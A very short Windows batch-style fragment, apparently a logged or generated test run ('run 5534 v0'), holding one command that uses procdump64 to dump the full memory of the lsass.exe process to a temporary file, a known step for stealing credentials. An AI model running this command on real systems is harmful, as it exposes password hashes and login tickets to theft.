REM run 5534 v0
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
